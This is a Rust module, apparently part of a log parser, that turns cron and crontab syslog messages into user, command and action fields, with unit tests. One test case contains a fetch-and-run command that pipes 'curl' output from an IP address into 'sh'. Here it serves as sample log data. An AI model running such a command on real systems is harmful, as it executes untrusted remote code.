//! cron and crontab: what ran for whom, and who edited a table.

use super::{
    class::{Class, Kind},
    flat::Flat,
    pam,
};

/// `(root) CMD (run-parts /etc/cron.hourly)`, `(bob) BEGIN EDIT (bob)`, `(root) RELOAD (crontabs/root)`.
pub fn read<'a>(message: &'a str, flat: &mut Flat<'a>) -> Option<Kind> {
    if let Some(kind) = pam::read(message, flat) {
        return Some(kind);
    }
    let (user, rest) = message.strip_prefix('(')?.split_once(") ")?;
    let (action, detail) = rest.split_once(" (").unwrap_or((rest, ""));
    let detail = detail.strip_suffix(')').unwrap_or(detail);
    flat.put_text("user", user);
    match action {
        "CMD" | "CMDOUT" | "CMDEND" | "END" => {
            flat.put_text("command", detail.trim());
            Some((Class::ScheduledJob, "Start"))
        }
        _ => {
            flat.put_text("action", action);
            Some((Class::ScheduledJob, activity(action)))
        }
    }
}

fn activity(action: &str) -> &'static str {
    match action {
        "REPLACE" | "BEGIN EDIT" | "END EDIT" | "RELOAD" => "Update",
        "DELETE" => "Delete",
        _ => "Other",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_message_gives_its_fields() {
        let cases = [
            (
                "(root) CMD (curl -s http://203.0.113.9/x.sh | sh)",
                r#"Start {"user":"root","command":"curl -s http://203.0.113.9/x.sh | sh"}"#,
            ),
            ("(root) CMD (  (a; b) )", r#"Start {"user":"root","command":"(a; b)"}"#),
            ("(bob) REPLACE (bob)", r#"Update {"user":"bob","action":"REPLACE"}"#),
            ("(bob) BEGIN EDIT (bob)", r#"Update {"user":"bob","action":"BEGIN EDIT"}"#),
            ("(root) RELOAD (crontabs/root)", r#"Update {"user":"root","action":"RELOAD"}"#),
            ("(CRON) INFO (Running @reboot jobs)", r#"Other {"user":"CRON","action":"INFO"}"#),
        ];
        for (message, wanted) in cases {
            let mut flat = Flat::new();
            let kind = read(message, &mut flat);
            assert_eq!(
                format!("{} {}", kind.map_or("-", |(_, activity)| activity), flat.render()),
                wanted,
                "{message}"
            );
        }
    }
}
